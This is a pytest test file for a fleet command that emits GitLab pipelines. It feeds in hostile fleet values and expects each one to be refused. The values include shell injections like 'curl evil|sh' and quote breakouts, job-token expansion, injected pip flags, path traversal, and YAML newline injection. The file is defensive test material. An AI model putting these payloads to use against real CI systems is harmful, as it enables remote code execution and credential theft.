"""Attacks through fleet input: values that would reach a shell, git, pip or GitLab as code (issue 17, 7).

A fleet file is input like a task file. Each hostile entry goes through the real CLI (`agentic-codemod
fleet`, both modes) and must end with exit 2 naming the fleet file, the entry and the field, with nothing
emitted and nothing run. A benign fleet's child pipeline passes GitLab's own schema (check-jsonschema),
carries every variable with `expand: false`, and its run job hands each value to the tool as one argument.
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from agentic_codemod.cli import main
from agentic_codemod.errors import EXIT_BAD_INPUT

sys.path.insert(0, str(Path(__file__).parents[1] / "gitlab"))
from ci_model import job, load_yaml, run_script, schema_check

TASK = "fixtures/tasks/acme-sdk-2-rules.yml"
BENIGN = {"name": "billing", "project": "shop/billing", "path": "repos/billing"}
EVIL_FLAGS = "https://x/simple --context /x/evil --config /x/evil.yml"

# id -> (where the hostile value goes, the fields, the field the error must name, what it must say)
ATTACKS: dict[str, tuple[str, dict[str, Any], str, str]] = {
    "project_expands_job_token": ("repo", {"project": "shop/$CI_JOB_TOKEN"}, "project", "'$'"),
    "project_command_substitution": ("repo", {"project": "shop/`curl evil|sh`"}, "project", "'`'"),
    "project_path_traversal": ("repo", {"project": "shop/../../admin/secrets"}, "project", "'..'"),
    "project_yaml_newline": ("repo", {"project": "shop/x\nscript: [curl evil]"}, "project", "a newline"),
    "ref_newline": ("repo", {"ref": "main\nevil"}, "ref", "a newline"),
    "ref_is_an_option": ("repo", {"ref": "--upload-pack"}, "ref", "starts with '-'"),
    "ref_quote_breaks_out": ("repo", {"ref": "main';curl evil;'"}, "ref", '"\'"'),
    "ref_reflog_syntax": ("repo", {"ref": "main@{1}"}, "ref", "'{'"),
    "target_branch_expands": ("repo", {"target_branch": "${CI_JOB_TOKEN}"}, "target_branch", "'$'"),
    "index_url_adds_flags": ("repo", {"index_url": EVIL_FLAGS}, "index_url", "a space"),
    "index_url_expands_token": ("repo", {"index_url": "https://$CI_JOB_TOKEN@x/simple"}, "index_url", "'$'"),
    "index_url_other_scheme": ("repo", {"index_url": "ext::sh"}, "index_url", "scheme"),
    "find_links_backticks": ("repo", {"find_links": ["`id`"]}, "find_links", "'`'"),
    "find_links_is_an_option": (
        "repo",
        {"find_links": ["--index-url=https://evil/simple"]},
        "find_links",
        "'-'",
    ),
    "find_links_tab": ("repo", {"find_links": ["wheels\t--no-deps"]}, "find_links", "a tab"),
    "name_newline": ("repo", {"name": "billing\n"}, "name", "lower-case"),
    "defaults_index_url": ("defaults", {"index_url": EVIL_FLAGS}, "defaults.index_url", "a space"),
    "defaults_find_links": ("defaults", {"find_links": ["$HOME/wheels"]}, "defaults.find_links", "'$'"),
}


def fleet_file(tmp_path: Path, where: str, fields: dict[str, Any]) -> Path:
    hostile = {"name": "evil", "project": "shop/evil", "path": "repos/evil"}
    defaults: dict[str, Any] = {"offline": True}
    if where == "repo":
        hostile.update(fields)
    else:
        defaults.update(fields)
    path = tmp_path / "fleet.yml"
    path.write_text(yaml.safe_dump({"defaults": defaults, "repos": [BENIGN, hostile]}), encoding="utf-8")
    return path


@pytest.mark.parametrize("mode", ["emit", "local"])
@pytest.mark.parametrize("attack", list(ATTACKS), ids=list(ATTACKS))
def test_attack_hostile_fleet_value_is_refused_before_anything_runs(
    attack: str, mode: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    where, fields, field, said = ATTACKS[attack]
    path = fleet_file(tmp_path, where, fields)
    child, fleet_dir = tmp_path / "child.yml", tmp_path / "fleet-out"
    how = (
        ["--emit-gitlab-pipeline", str(child)]
        if mode == "emit"
        else ["--local", "--fleet-dir", str(fleet_dir)]
    )
    before = sorted(tmp_path.iterdir())

    code = main(["fleet", "--task", TASK, "--repos", str(path), *how])

    err = capsys.readouterr().err
    assert code == EXIT_BAD_INPUT, err
    assert str(path) in err, err  # the fleet file ...
    if where == "repo":  # ... the entry, by position and by name ...
        assert ("repos[1] (name 'billing\\n')" if field == "name" else "repos[1] (name 'evil')") in err, err
    assert f"field '{field}'" in err and said in err, err  # ... the field and what is wrong with it
    assert sorted(tmp_path.iterdir()) == before  # nothing emitted, no fleet dir, no run


def test_attack_task_path_cannot_inject_yaml_into_the_child(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = fleet_file(tmp_path, "repo", {})
    child = tmp_path / "child.yml"
    task = "t.yml\nstages: [evil]\nevil: {script: [curl evil]}\n#"
    code = main(["fleet", "--task", task, "--repos", str(path), "--emit-gitlab-pipeline", str(child)])
    err = capsys.readouterr().err
    assert code == EXIT_BAD_INPUT and "--task" in err and "a newline" in err, err
    assert not child.exists()


def test_attack_run_variables_with_spaces_add_no_flags(tmp_path: Path) -> None:
    """The template's run job on a value set by hand (Run-pipeline form): one argument, never split."""
    template = load_yaml(Path(__file__).parents[2] / "ci" / "templates" / "agentic-codemod.gitlab-ci.yml")
    script = "\n".join(job(template, ".codemod:run")["script"])
    env = {
        "CODEMOD_REPO_DIR": ".",
        "CODEMOD_TASK": TASK,
        "CODEMOD_CONTEXT": "ctx",
        "CODEMOD_INDEX_URL": EVIL_FLAGS,
        "CODEMOD_FIND_LINKS": "wheels --context /x/evil\n$(touch pwned)",
    }
    ran = run_script(script, env, tmp_path)
    assert ran.code == 0, ran.stderr
    assert ran.argv is not None
    assert ran.argv.count("--context=ctx") == 1 and "--context" not in ran.argv and "/x/evil" not in ran.argv
    assert "--config" not in ran.argv and not any(a.startswith("--config") for a in ran.argv)
    assert f"--index-url={EVIL_FLAGS}" in ran.argv
    assert ran.argv[-2:] == ["--find-links=wheels --context /x/evil", "--find-links=$(touch pwned)"]
    assert not (tmp_path / "pwned").exists()


# -- a benign fleet ---------------------------------------------------------------------------------------


def benign_child(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, dict[str, Any]]:
    (tmp_path / "fleets").mkdir()
    path = tmp_path / "fleets" / "fleet.yml"
    repos = [
        BENIGN,
        {
            "name": "orders-v2",
            "project": "shop/team.a/orders_v2",
            "ref": "release/2.0+hotfix",
            "target_branch": "main",
            "index_url": "https://pypi.example/simple?x=1",
            "no_index": False,
        },
    ]
    defaults = {
        "offline": True,
        "no_index": True,
        "find_links": ["../wheels", "https://mirror.example/links/"],
    }
    path.write_text(yaml.safe_dump({"defaults": defaults, "repos": repos}), encoding="utf-8")
    monkeypatch.chdir(tmp_path)  # the emitting job's working directory is the project root
    child = tmp_path / "child.yml"
    assert main(["fleet", "--task", TASK, "--repos", str(path), "--emit-gitlab-pipeline", str(child)]) == 0
    return child, load_yaml(child)


def test_attack_benign_fleet_emits_a_schema_valid_pipeline_with_raw_variables(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    child, pipeline = benign_child(tmp_path, monkeypatch)
    ok, out = schema_check(child)
    assert ok, out
    blocks = [pipeline["variables"]] + [
        body["variables"] for body in pipeline.values() if isinstance(body, dict) and "variables" in body
    ]
    # global, .codemod:base, each job of the two chains, and the collector (codemod:fleet:report)
    assert len(blocks) == 1 + 1 + 3 * 2 + 1
    for block in blocks:
        for name, variable in block.items():
            assert isinstance(variable, dict) and variable["expand"] is False, (name, variable)
            assert isinstance(variable["value"], str), (name, variable)


def test_attack_benign_fleet_values_reach_the_tool_one_argument_each(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, pipeline = benign_child(tmp_path, monkeypatch)
    run = job(pipeline, "codemod:run:orders-v2")
    env = {k: v["value"] for k, v in {**pipeline["variables"], **run["variables"]}.items()}
    ran = run_script("\n".join(run["script"]), {**env, "CODEMOD_REPO_DIR": "."}, tmp_path)
    assert ran.code == 0, ran.stderr
    assert ran.argv == [
        "run",
        "--repo=.",
        f"--task={TASK}",
        "--context=.",
        "--run-dir=codemod-run",
        "--offline",
        "--index-url=https://pypi.example/simple?x=1",
        "--find-links=wheels",
        "--find-links=https://mirror.example/links/",
    ]
    assert (env["CODEMOD_PROJECT"], env["CODEMOD_REF"]) == ("shop/team.a/orders_v2", "release/2.0+hotfix")
